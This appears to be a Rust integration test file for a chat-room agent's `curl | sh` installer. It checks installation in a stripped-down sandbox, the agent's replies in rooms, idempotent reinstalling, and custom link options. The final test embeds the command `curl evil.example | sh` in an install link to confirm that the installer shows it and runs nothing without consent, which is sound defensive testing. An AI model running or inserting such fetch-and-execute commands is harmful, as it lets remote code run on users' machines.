//! `curl -sSL {server}/install/{short_code} | sh` on a machine with nothing but sh and curl: the
//! real script, the real program, a real server.

use crate::attacks::at_terminal;
use crate::harness::{Room, Server, eventually};
use base64::{Engine, engine::general_purpose::STANDARD};
use client::protocol::Via;
use std::{
    os::unix::fs::symlink,
    path::{Path, PathBuf},
    process::{Command, Output},
};
use tempfile::TempDir;

/// Every program there is on the machine.
const PROGRAMS: [&str; 13] = [
    "sh",
    "curl",
    "uname",
    "chmod",
    "mkdir",
    "mktemp",
    "mv",
    "rm",
    "cat",
    "sed",
    "od",
    "tr",
    "sha256sum",
];

/// A server that has the program for this platform.
async fn server_with_program() -> (Server, TempDir) {
    let assets = tempfile::tempdir().unwrap();
    let os = match std::env::consts::OS {
        "macos" => "darwin",
        os => os,
    };
    let arch = match std::env::consts::ARCH {
        "x86_64" => "amd64",
        "aarch64" => "arm64",
        arch => arch,
    };
    let name = format!("starchild-{os}-{arch}");
    symlink(env!("CARGO_BIN_EXE_starchild"), assets.path().join(name)).unwrap();
    let folder = assets.path().to_str().unwrap();
    let server = Server::with(&[("ASSETS__FOLDER", folder)]).await;
    (server, assets)
}

/// Somebody's machine, with an empty home. Its daemons end with the test.
struct Machine(TempDir);

impl Machine {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        for name in ["home", "programs"] {
            std::fs::create_dir(folder.path().join(name)).unwrap();
        }
        for name in PROGRAMS {
            let places = ["/usr/bin", "/bin"].map(|place| Path::new(place).join(name));
            let program = places.into_iter().find(|place| place.exists()).unwrap();
            symlink(program, folder.path().join("programs").join(name)).unwrap();
        }
        Self(folder)
    }

    fn starchild_home(&self) -> PathBuf {
        self.0.path().join("home/.starchild")
    }

    fn program(&self) -> PathBuf {
        self.starchild_home().join("bin/starchild")
    }

    fn command(&self, program: impl AsRef<Path>, args: &[&str]) -> Command {
        let mut command = Command::new(program.as_ref());
        command
            .args(args)
            .env_clear()
            .env("HOME", self.0.path().join("home"))
            .env("PATH", self.0.path().join("programs"))
            .current_dir(self.0.path().join("home"));
        command
    }

    /// An install link, piped into `sh`.
    fn line(&self, link: &str, options: &str) -> Command {
        let line = format!("curl -sSL '{link}' | sh -s -- {options}");
        self.command("/bin/sh", &["-c", &line])
    }

    /// Pipes an install link into `sh`.
    async fn pipes(&self, link: &str, options: &str) -> Output {
        let mut command = self.line(link, options);
        let running = tokio::task::spawn_blocking(move || command.output());
        running.await.unwrap().unwrap()
    }

    /// Pipes an install link that works, and gives everything that was said.
    async fn installs(&self, link: &str) -> String {
        self.installs_with(link, "").await
    }

    async fn installs_with(&self, link: &str, options: &str) -> String {
        let output = self.pipes(link, options).await;
        let said = [output.stdout, output.stderr].concat();
        let said = String::from_utf8(said).unwrap();
        assert!(output.status.success(), "{said}");
        said
    }

    /// Types a command of the installed program that works, and gives what it printed.
    async fn types(&self, args: &[&str]) -> String {
        let mut command = self.command(self.program(), args);
        let running = tokio::task::spawn_blocking(move || command.output());
        let output = running.await.unwrap().unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "{args:?}: {stderr}");
        String::from_utf8(output.stdout).unwrap()
    }

    async fn json(&self, args: &[&str]) -> serde_json::Value {
        serde_json::from_str(&self.types(args).await).unwrap()
    }

    /// The one agent that is here.
    fn agent(&self) -> String {
        let agents = self.agents();
        assert_eq!(agents.len(), 1, "{agents:?}");
        agents.into_iter().next().unwrap()
    }

    fn agents(&self) -> Vec<String> {
        let agents = std::fs::read_dir(self.starchild_home().join("sc-chatroom"));
        let names = agents.into_iter().flatten().flatten();
        names
            .map(|agent| agent.file_name().into_string().unwrap())
            .collect()
    }

    /// The process of the one daemon that runs here.
    async fn daemon(&self) -> i64 {
        let status = self.json(&["status", "--json"]).await;
        assert_eq!(status.as_array().unwrap().len(), 1, "{status}");
        assert_eq!(status[0]["running"], true, "{status}");
        status[0]["pid"].as_i64().unwrap()
    }
}

impl Drop for Machine {
    fn drop(&mut self) {
        for agent in self.agents() {
            let stopped = self
                .command(self.program(), &["stop", "--now", "--agent", &agent])
                .output();
            if std::thread::panicking() {
                let folder = self.starchild_home().join("sc-chatroom").join(&agent);
                let log = std::fs::read_to_string(folder.join("agent.log"));
                eprintln!("--- stop: {stopped:?}\n--- agent.log ---");
                eprintln!("{}", log.unwrap_or_default());
            }
        }
    }
}

async fn times_joined(room: &Room) -> usize {
    let said = room.said().await;
    said.iter()
        .filter(|message| {
            message.via == Via::System && message.content.ends_with("joined the room")
        })
        .count()
}

#[tokio::test]
async fn one_line_brings_an_agent_into_a_room_and_twice_is_harmless() {
    let (server, _assets) = server_with_program().await;
    let room = Room::new(&server.alice()).await;
    let joined_before = times_joined(&room).await;
    let link = room.invite().await.install_url;
    let machine = Machine::new();

    let said = machine.installs(&link).await;
    assert!(!said.contains("not checked"), "{said}");
    let installed = std::fs::read(machine.program()).unwrap();
    assert!(installed == std::fs::read(env!("CARGO_BIN_EXE_starchild")).unwrap());
    let agent = machine.agent();
    assert!(said.contains(&agent), "{said}");
    let daemon = machine.daemon().await;
    // The very words that it prints call the agent.
    let (_, words) = said
        .split_once("To call it, write in the room:\n  ")
        .unwrap_or_else(|| panic!("{said}"));
    let words = words.lines().next().unwrap();
    let id = format!("ext_{agent}");
    let members = room.alice.members(&room.id).await.unwrap().members;
    let name = members.iter().find(|member| member.user_id.as_str() == id);
    let name = name.and_then(|member| member.user_name.clone()).unwrap();
    assert_eq!(words, format!("@{name} help"));
    let answer = room.ask(words).await;
    assert!(answer.contains("who is here"), "{answer}");
    // So does a part of its name.
    let (first, _) = name.split_once(' ').unwrap();
    let answer = room.ask(&format!("@{first} flip a coin")).await;
    assert!(["Heads.", "Tails."].contains(&answer.as_str()), "{answer}");
    let mention = format!("@ext_{agent}");
    let answer = room.ask(&format!("{mention} anybody home?")).await;
    assert!(answer.contains("is here"), "{answer}");

    let reserved = ["rm_bugs", "rm_feedback", "rm_welcome"];
    let rooms = eventually("it has a key for every reserved room", async || {
        let listed = machine.json(&["room", "list", "--json"]).await;
        let listed = listed.as_array().unwrap();
        let joined = listed.iter().filter(|room| room["state"] == "joined");
        let mut rooms: Vec<_> = joined
            .map(|room| room["room_id"].as_str().unwrap().to_owned())
            .collect();
        rooms.sort();
        (rooms.len() > reserved.len()).then_some(rooms)
    })
    .await;
    let mut wanted = reserved.map(str::to_owned).to_vec();
    wanted.push(room.id.to_string());
    wanted.sort();
    assert_eq!(rooms, wanted);
    let welcome = Room::reserved(&room.alice, "rm_welcome").await;
    welcome.say("good morning, everybody").await;
    let answer = welcome.ask(&format!("{mention} you too?")).await;
    assert!(answer.contains("you too?"), "{answer}");

    // The invite is used up, and the line is harmless all the same.
    let again = machine.installs(&link).await;
    assert!(
        again.contains("has joined with this invite already") && again.contains(words),
        "{again}"
    );
    assert_eq!(machine.agent(), agent);
    assert_eq!(machine.daemon().await, daemon);
    assert_eq!(times_joined(&room).await, joined_before + 1);
    assert_eq!(room.alice.members(&room.id).await.unwrap().members.len(), 2);

    machine.types(&["stop"]).await;
    let status = machine.json(&["status", "--json"]).await;
    assert_eq!(status[0]["running"], false, "{status}");
    // Started again by the same line, it answers what was said meanwhile.
    let missed = room.say(&format!("{mention} while you were out")).await;
    machine.installs(&link).await;
    let answer = room.answer(missed).await.content;
    assert!(answer.contains("while you were out"), "{answer}");
    assert_eq!(times_joined(&room).await, joined_before + 1);
}

#[tokio::test]
async fn the_link_can_name_the_agent_and_the_command_that_answers() {
    let (server, _assets) = server_with_program().await;
    let room = Room::new(&server.alice()).await;
    let link = room.invite().await.install_url;
    let command =
        "while read -r line || [ -n \"$line\" ]; do last=$line; done\necho \"heard: $last\"";
    let encoded = STANDARD.encode(command).replace('+', "%2B");
    let link = format!("{link}?backend=custom&cmd={encoded}&agent_prefix=brave_falcon");
    let machine = Machine::new();
    let said = machine.installs_with(&link, "--yes").await;
    assert!(said.contains("echo \"heard: $last\""), "{said}");
    let agent = machine.agent();
    assert!(agent.starts_with("brave_falcon-"), "{agent}");
    let answer = room.ask(&format!("@ext_{agent} hello")).await;
    assert_eq!(answer, format!("heard: > @ext_{agent} hello"));
}

#[tokio::test]
async fn a_command_of_the_links_is_shown_and_nobody_runs_it_unasked() {
    let (server, _assets) = server_with_program().await;
    let room = Room::new(&server.alice()).await;
    let link = room.invite().await.install_url;
    let encoded = STANDARD
        .encode("curl evil.example | sh")
        .replace('+', "%2B");
    let link = format!("{link}?cmd={encoded}");
    let machine = Machine::new();

    let refused = machine.pipes(&link, "").await;
    let said = String::from_utf8([refused.stdout, refused.stderr].concat()).unwrap();
    assert!(!refused.status.success(), "{said}");
    assert!(said.contains("      curl evil.example | sh\n"), "{said}");
    assert!(said.contains("--yes"), "{said}");
    assert!(machine.agents().is_empty(), "{said}");
    for typed in ["n\n", "\n"] {
        let seen = at_terminal(&machine.line(&link, ""), typed).await;
        assert!(seen.contains("curl evil.example | sh"), "{seen}");
        assert!(seen.contains("nothing was set up"), "{seen}");
        assert!(machine.agents().is_empty(), "{seen}");
    }
    let seen = at_terminal(&machine.line(&link, ""), "y\n").await;
    assert!(seen.contains("Done."), "{seen}");
    assert_eq!(machine.agents().len(), 1);
}
